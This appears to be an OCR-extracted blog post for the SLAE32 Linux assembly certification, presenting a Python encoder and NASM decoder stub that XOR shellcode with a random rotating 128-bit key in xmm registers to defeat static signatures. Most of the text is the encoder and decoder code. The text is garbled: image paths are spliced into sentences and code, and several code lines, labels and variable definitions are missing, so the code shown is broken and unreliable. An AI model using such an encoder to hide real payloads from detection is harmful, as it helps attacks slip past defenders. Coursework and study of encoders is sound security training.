SLAE32 Assignment 4: Custom Encoder

This blog post has been created for completing the requirements of the SecurityTube Linux Assembly Expert certification:

Student ID: SLAE-1009

Assignment 4 calls for a custom encoder. The encoder is simply a mechanism to transform the bytes into a less recognizable form, and couple onto it a decoding stub, that will perform the inverse transformation. In the class, a simple XOR encoder was covered where a single byte was used to xor each individual byte of the shellcode. In a subsequent video, the same technique was shown using xmm registers. I liked the idea of using obscure registers and I also like the simplicity of the xor operation.

However, I wanted to implement something above and beyond what was covered in the course, so I decided to extend the xmm xor technique. In the video, he used a single byte repeated over and over. My idea was to use a 128 bit random value and xor the entire thing with 128 bits of shellcode. Then, in order to prevent exact reuse of the key for each 128 bit block, I decided to rotate the key after each block, so that if there happened to be a repeated shellcode block, it wouldn’t be repeated in the encoded version. Since this isn’t crypto, it’s not that critical, but I thought it might add a bit of difficulty to analysis.

Another thing that I wanted to do was create a random key each time the encoder was run and also a random shift value. I also wanted the random 128 bit key to be physically located in the middle of the decoderstub so that it broke up the static decoder stub with a little bit of randomness, so that each static piece was a little shorter.

In order to do all this without going insane cutting and pasting byte strings between different files, I made the encoder not only encode the shellcode, but output the decoder stub as well, so I can just pipe the encoded shellcode into the excecution stub, which I made read the shellcode to execute from STDIN.

I wrote the encoder in Python 3 and I wrote the decoder in assembly, and pastedthe bytes the I needed into the Python encoder script.

Both scriptswere a bit tricky to implement - particularly using the xmm instructions properly. But all in all, my main issues were lack of familiarity with the necessary commands, both in Python and asm. In the end, I was able to get everything working, and I will demonstrate its functionality after I present the code.

I’ll present the Python script first, but I’ll omit the objdump output that I include as a comment at the bottom in the code on github, as well as the print statements that I commented out, but left in case someone wants to investigate it further. There are lots of comments in the code to explain what it is doing, but I’ll addexplanation as needed.


import sys
import random
import struct
import os

# for this function we are operating on 128 bit integers
# We want to shift in multiples of bytes since the xmm instructions
# shift in multiples of bytes, not bitsdef rotate128Left(value, bytes):
    return (((value << (bytes*8)) & mask) | (value >> (128-(bytes*8))))

I wanted to shift a random amount of bytes, but the xmm shift instruction shifts in multiples of bytes, so I was limited by the underlying instructions.

# Shellcode payload to encode
with os.fdopen(sys.stdin.fileno(), 'rb') as shellcode_input:
    mainPayload =

# Get random key
xorKey = random.getrandbits(128)
# We need to shift an odd amount to avoid short cycles
shiftKey = random.randint(1,15)
if shiftKey % 2 == 0:
   shiftKey = shiftKey+1

shiftString = '\\x'+'{:02x}'.format(shiftKey)
remainderString = '\\x' + '{:02x}'.format(16-shiftKey)

xorKeyString = ""
for s in xorKey.to_bytes(16,"little"):
    xorKeyString += "\\x" + '{:02x}'.format(s)

I am going to paste these values into the code directly, so I format them so that I can just concatenate them later. I was going to put the shift value right next to the xor key, but the shift instruction for xmm registers takes an immediate value as the amount of bytes to shift, so I have to paste them into the code in the appropriate position, building the instructions on the fly.# break up input into chunks of 16 bytes
payloadParts = []
    payloadParts.append(xorKey ^ nextPart)
    xorKey = rotate128Left(xorKey, shiftKey)
    mainPayload = mainPayload[16:]

This was the main encoding function. I xor the key with the next block, and the rotate the bytes in the key left bywhatever amount is needed.

encodedPayload = ""
for p in payloadParts:
    for s in p.to_bytes(16,"little"):
        encodedPayload +="\\x" + '{:02x}'.format(s)

for s in xorKey.to_bytes(16,"little"):
    currentKey += "\\x" + '{:02x}'.format(s)

The following part is the construction of the decoder stub plus the encoded shellcode. The byte codes are from the objdump that comes from the assembly code that will be described next.

#So now we have all the important parts
#So lets construct the entire shellcode, including the decoder and the encoded shellcode
# I wanted to break up the lines so I did it by labeled section...
mainPayload="\\xeb\\x0d"  \
            +xorKeyString \
            + shiftString\
            + remainderString\

# Would be better to automatically select another key, but I didn't do that.if "00" in mainPayload:
   print("It contains a null! Try again...")


That’s it for the encoder script. I will show proper usage of it below after we describe the xmm xor decoder.

; Title: XMM decoder shellcode
; Filename: xmm_xor_decoder.nasm; Author:  Mark Shaneck
; Website:
; A more detailed description of this code can be found at
; Purpose: Decode shellcode that has been encoded through
; an xor with a 128 bit value that gets rotated left by
; a particular amount. This code is not intended to be
; used directly but as a way to create a template for
; the associated python script to autogenerate it, since
; the xor key and the shift amount will be randomized for
; each run

global _start

section .text
    jmp get_keys

    pop esi            ; esi contains the address of the xor key
    xor ecx,ecx
    movdqu xmm1, [esi] ; put the xor key into xmm1
    pxor xmm3,xmm3     ; put a zero in xmm3 for end point check
    jmp short move_on

; put the data in the middle to break up the signature somewhat, since
; the 128 bit xorkey will be random each time
    call got_keys

    ; the xorkey will be a random value, and will be replaced in the python script
    xorKey: db 0x71,0x6a,0xc9,0xfc,0xfe,0x1a,0xd1,0x09,0xb4,0x9c,0x2b,0x7f,0xce,0x75,0x8f,0xc4

    jmp short get_shellcode

    pop esi      ; now the shellcode address is loaded into esi
    mov edx,esi  ; we will update esi, so edx will save the start point

    movdqu xmm0, [esi]  ; put the first block of encoded shellcode into xmm0

    pxor xmm0,xmm1  ; decode that next block
    movdqu [esi],xmm0; check to see if that value in xmm0 is 0
    ; xmm3 contains all zeros
    ; so we can use vptest and jc
    ; vptest xmm3,xmm0 sets the CF if xmm0 AND NOT xmm3 is all zeros
    ; that is, since xmm3 is zero, not xmm3 is all 1s
    ; so xmm0 and not xmm3 will be all zeros if xmm0 is all zeros
    vptest xmm3,xmm0
    jnc rotate_key
    jmp edx

    ; before we increment esi and loop, rol the key by shiftvalue bytes
    ; these shift values will be dynamically generated by the encoder script
    ; hard code for now
    movdqu xmm2,xmm1 ; copy so we can rotate the key
    pslldq xmm1, 0x9 ; rotate left by shift key  --> this will be replaced with the random value
    psrldq xmm2, 0x7 ; rotate right by remainder --> this will be replaced with the random value
    por xmm1,xmm2   ; OR together to get rotate left

    ; skip to the next block of encoded shellcode
    add esi, 0x10

    jmp short decode_loop

    call got_shellcode
    ; The following shellcode will be dynamically replaced in the python script
    shellcode: db0x40,0xa3,0x3e,0x1d,0xcf,0xc1,0x61,0x0d,0x07,0x9d,0xc0,0x74,0x97,0xc7,0x82,0x09,0x89,0x04,0x9d,0x1a,0xa4,0x03,0xf5,0x67,0x34,0x8e,0x95,0x36,0xb4,0x9b,0x76,0xbd,0xe0,0xe4,0x06,0x05,0xbb,0x90,0x9a,0x3b,0xdb,0x09,0xb4,0x9c,0x2b,0x7f,0xce,0x75,0x1a,0xd1,0x09,0xb4,0x9c,0x2b,0x7f,0xce,0x75,0x8f,0xc4,0x71,0x6a,0xc9,0xfc,0xfe

And that’s it. It took a surprisingly long time to implement given how relatively simple it is. However, I was quite happy with the end result. Now, I’ll show how it works with a few different shellcodes, include the execve stack method that the assignment asks for. However, due to the way it is setup, it is easy to put any shellcode in it.

First, let’s try the standard Hello World. The assembly is the same as in the class, so I won’t go over it again. But as you can see in the image, I compile the helloworld.nasm file to get its shellcode, pipe that into the encoder, and pipe the result of that into the shellcode stub, which just reads from stdin and executes. You can also see from the image that it adds about 113 bytes to the original shellcode.

Next up is the execve stack shellcode. This also was covered in the videos, so I’ll not describe it either. I did however run into a very strange problem. If anyone has any insight on this, please drop me a note on Keybase chat (unless I get comments working onthese posts first). I could not get the code to execute properly when reading the shellcode from stdin. I had to use the technique of declaring a global unsigned char array and pasting the shellcode into there. It seemed from my debugging that theshell was indeed executing but then crashing once it was run. I could not figure out what was different between the two methods of execution. I verified that the code was being read in correctly and did not have any errors in memory. But still, it would not execute.

However, it worked fine when put in the global variable, as seen in the shellcode.c in my github repo for this assignment.

The encoded code also worked for my bindand reverse TCP shells from previous assignments.

I really enjoyed workingon this encoder and Ithink I got a lot out of the process.